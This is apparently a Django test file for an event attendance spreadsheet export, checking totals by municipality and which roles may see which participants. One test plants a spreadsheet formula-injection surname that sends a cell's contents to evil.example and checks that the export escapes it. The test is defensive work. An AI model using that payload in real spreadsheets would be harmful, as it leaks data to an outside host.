"""The attendance XLSX: read back with openpyxl and compared with counts made here from the raw facts."""

import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from events.exports import CONTENT_TYPE, HEADER_ROW
from events.factories import make_event, make_organizer, make_writing_trainer
from events.models import Attendance, BroadcastRoom, EventPage, Registration
from people.factories import (
    make_municipal_manager,
    make_municipality,
    make_organization,
    make_person,
    make_regional_manager,
)
from people.models import Municipality

pytestmark = pytest.mark.django_db

WITHOUT_MUNICIPALITY = "Региональные органы и без муниципального образования"


@pytest.fixture
def world():
    """A hybrid seminar with personal check-ins and broadcast rooms in three municipalities.

    District «Дзержинский район» with the settlement «Поселок Полотняный Завод», «Город Обнинск», and
    a regional official without a municipality. Some people both checked in and were named in a room.
    """
    start = timezone.now() - datetime.timedelta(hours=3)
    event = make_event(format=EventPage.Format.HYBRID, start=start, title="Семинар о конфликте интересов")
    district = make_municipality("Дзержинский район", kind=Municipality.Kind.DISTRICT)
    settlement = make_municipality(
        "Поселок Полотняный Завод", kind=Municipality.Kind.URBAN_SETTLEMENT, parent=district
    )
    obninsk = make_municipality("Город Обнинск", kind=Municipality.Kind.URBAN_OKRUG)
    make_municipality("Город Калуга", kind=Municipality.Kind.URBAN_OKRUG)  # nobody there: no row

    def people(municipality, prefix, count):
        organization = make_organization(municipality, name=f"Администрация {municipality.name}")
        return [
            make_person(organization=organization, last_name=f"{prefix}{i}", first_name="Анна")
            for i in range(count)
        ]

    d = people(district, "Дзержинская", 6)
    s = people(settlement, "Заводская", 3)
    o = people(obninsk, "Обнинская", 4)
    regional = make_person(last_name="Областной", organization=make_organization(name="Министерство"))
    checked_in = [*d[:3], s[0], *o[:2], regional]
    for person in checked_in:
        Attendance.objects.create(event=event, user=person, checked_in_at=start)
    for person in (d[0], o[0], s[2]):
        Registration.objects.create(event=event, user=person)
    # district room: 10 counted, named d[2] (also checked in), d[3], d[4] and the settlement's s[1]
    room_d = BroadcastRoom.objects.create(event=event, municipality=district, head_count=10, room="Зал 1")
    room_d.participants.set([d[2], d[3], d[4], s[1]])
    # Obninsk room: 2 counted but 3 named (under-count), one of them (o[1]) also checked in
    room_o = BroadcastRoom.objects.create(event=event, municipality=obninsk, head_count=2)
    room_o.participants.set([o[1], o[2], o[3]])
    return {
        "event": event,
        "district": district,
        "settlement": settlement,
        "obninsk": obninsk,
        "d": d,
        "s": s,
        "o": o,
        "regional": regional,
        "checked_in": checked_in,
        "rooms": {district: room_d, obninsk: room_o},
    }


def expected_totals(world, municipalities):
    """The formula of events.attendance computed from the fixture's own lists, not from the database."""
    checked = set(world["checked_in"])
    rows = {}
    for municipality in municipalities:
        personal = sum(1 for person in checked if person.municipality_id == municipality.pk)
        room = world["rooms"].get(municipality)
        named = set(room.participants.all()) if room else set()
        counted = max(room.head_count, len(named)) if room else 0
        overlap = len(named & checked)
        if personal or room:
            rows[municipality.name] = (personal, room.head_count if room else None, len(named), overlap,
                                       personal + counted - overlap)  # fmt: skip
    return rows


def read(response):
    assert response.status_code == 200
    assert response["Content-Type"] == CONTENT_TYPE
    assert response["Content-Disposition"].startswith("attachment; filename=")
    return load_workbook(io.BytesIO(response.content))


def table(sheet):
    rows = list(sheet.iter_rows(min_row=HEADER_ROW, values_only=True))
    return rows[0], rows[1:]


def test_regional_manager_gets_every_municipality_and_every_named_person(client, world):
    client.force_login(make_regional_manager())
    workbook = read(client.post(f"/events/{world['event'].pk}/attendance.xlsx"))
    assert workbook.sheetnames == ["По муниципальным образованиям", "Участники"]

    totals = workbook["По муниципальным образованиям"]
    assert "Семинар о конфликте интересов" in totals["A1"].value
    heading, rows = table(totals)
    assert heading[0] == "Муниципальное образование" and heading[-1] == "Итого без двойного счёта"
    *by_municipality, without, grand = rows
    expected = expected_totals(world, [world["district"], world["settlement"], world["obninsk"]])
    assert {row[0]: tuple(row[1:]) for row in by_municipality} == expected
    assert [row[0] for row in by_municipality] == sorted(expected)
    # district: 3 personal + max(10, 4) - 1 = 12; settlement: 1; Obninsk: 2 + max(2, 3) - 1 = 4
    assert expected["Дзержинский район"][-1] == 12 and expected["Город Обнинск"][-1] == 4
    assert without == (WITHOUT_MUNICIPALITY, 1, None, 0, 0, 1)
    assert grand[0] == "Всего" and grand[-1] == 12 + 1 + 4 + 1

    heading, people = table(workbook["Участники"])
    assert heading[0] == "Участник"
    named = {p for room in world["rooms"].values() for p in room.participants.all()}
    registered = {world["d"][0], world["o"][0], world["s"][2]}
    everyone = set(world["checked_in"]) | named | registered
    assert sorted(row[0] for row in people) == sorted(p.get_full_name() for p in everyone)
    by_name = {row[0]: row for row in people}
    d2 = by_name[world["d"][2].get_full_name()]
    assert isinstance(d2[3], datetime.datetime)  # checked in personally
    assert d2[5] == "Дзержинский район"  # and named in the district's room
    s1 = by_name[world["s"][1].get_full_name()]
    assert s1[2] == "Поселок Полотняный Завод" and s1[3] is None and s1[5] == "Дзержинский район"
    assert by_name[world["d"][0].get_full_name()][6] == "зарегистрирован"
    assert by_name[world["o"][2].get_full_name()][6] == "без регистрации"
    s2 = by_name[world["s"][2].get_full_name()]  # registered, but neither checked in nor named
    assert (s2[3], s2[5], s2[6]) == (None, None, "зарегистрирован")
    assert world["d"][5].get_full_name() not in by_name  # neither registered, checked in nor named


def test_municipal_manager_gets_only_their_municipality(client, world):
    client.force_login(make_municipal_manager(world["obninsk"]))
    workbook = read(client.post(f"/events/{world['event'].pk}/attendance.xlsx"))
    _heading, rows = table(workbook["По муниципальным образованиям"])
    *by_municipality, grand = rows
    expected = expected_totals(world, [world["obninsk"]])
    assert {row[0]: tuple(row[1:]) for row in by_municipality} == expected
    assert grand[-1] == expected["Город Обнинск"][-1] == 4
    _heading, people = table(workbook["Участники"])
    assert sorted(row[0] for row in people) == sorted(p.get_full_name() for p in world["o"])
    text = repr([list(row) for sheet in workbook for row in sheet.iter_rows(values_only=True)])
    for outsider in ("Дзержинск", "Заводская", "Областной", WITHOUT_MUNICIPALITY):
        assert outsider not in text


def test_district_manager_sees_their_settlements_too(client, world):
    client.force_login(make_municipal_manager(world["district"]))
    workbook = read(client.post(f"/events/{world['event'].pk}/attendance.xlsx"))
    _heading, rows = table(workbook["По муниципальным образованиям"])
    names = [row[0] for row in rows[:-1]]
    assert names == ["Дзержинский район", "Поселок Полотняный Завод"]
    _heading, people = table(workbook["Участники"])
    expected = {*world["d"][:5], *world["s"]}  # s[2] registered only
    assert sorted(row[0] for row in people) == sorted(p.get_full_name() for p in expected)


def test_organizer_gets_everything(client, world):
    client.force_login(make_organizer())
    workbook = read(client.post(f"/events/{world['event'].pk}/attendance.xlsx"))
    _heading, rows = table(workbook["По муниципальным образованиям"])
    assert rows[-1][-1] == 18


def test_trainer_who_writes_the_event_page_gets_no_people(client, world):
    trainer = make_writing_trainer()
    assert world["event"].permissions_for_user(trainer).can_edit()
    client.force_login(trainer)
    assert client.post(f"/events/{world['event'].pk}/attendance.xlsx").status_code == 404


def test_servants_strangers_and_missing_events_get_not_found(client, world):
    event = world["event"]
    response = client.post(f"/events/{event.pk}/attendance.xlsx")
    assert response.status_code == 302 and response["Location"].startswith("/login/")
    client.force_login(world["d"][0])
    assert client.post(f"/events/{event.pk}/attendance.xlsx").status_code == 404
    client.force_login(make_regional_manager())
    assert client.get(f"/events/{event.pk}/attendance.xlsx").status_code == 405
    event.unpublish()
    assert client.post(f"/events/{event.pk}/attendance.xlsx").status_code == 404
    assert client.post("/events/999999/attendance.xlsx").status_code == 404


def test_event_without_attendance_exports_empty_tables(client):
    event = make_event()
    client.force_login(make_regional_manager())
    workbook = read(client.post(f"/events/{event.pk}/attendance.xlsx"))
    _heading, rows = table(workbook["По муниципальным образованиям"])
    assert rows == [("Всего", None, None, None, None, 0)]
    _heading, people = table(workbook["Участники"])
    assert people == []


def test_before_the_event_the_people_sheet_lists_who_registered(client):
    event = make_event(start=timezone.now() + datetime.timedelta(days=7), capacity=1)
    office = make_organization(make_municipality("Город Обнинск"))
    coming = make_person(office, last_name="Зарегистрированная", first_name="Анна")
    waiting = make_person(office, last_name="Ожидающая", first_name="Анна")
    gone = make_person(office, last_name="Отменившая", first_name="Анна")
    Registration.objects.create(event=event, user=coming)
    Registration.objects.create(event=event, user=waiting, status=Registration.Status.WAITLISTED)
    Registration.objects.create(event=event, user=gone, status=Registration.Status.CANCELLED)
    client.force_login(make_regional_manager())
    _heading, people = table(read(client.post(f"/events/{event.pk}/attendance.xlsx"))["Участники"])
    assert [(row[0], row[3], row[6]) for row in people] == [
        ("Зарегистрированная Анна", None, "зарегистрирован"),
        ("Ожидающая Анна", None, "в листе ожидания"),
    ]


def test_a_name_from_the_roster_never_runs_as_a_formula(client, world):
    """HR rosters are typed by people: «=HYPERLINK(…)» as a surname reaches the workbook as text."""
    hostile = world["o"][3]
    hostile.last_name = '=HYPERLINK("http://evil.example/?"&A1,"Обнинская3")'
    hostile.save()
    client.force_login(make_regional_manager())
    workbook = read(client.post(f"/events/{world['event'].pk}/attendance.xlsx"))
    cells = [cell for row in workbook.worksheets[1].iter_rows(values_only=True) for cell in row if cell]
    assert not any(str(cell).startswith("=") for cell in cells)
    assert any(str(cell).startswith("'=HYPERLINK") for cell in cells)
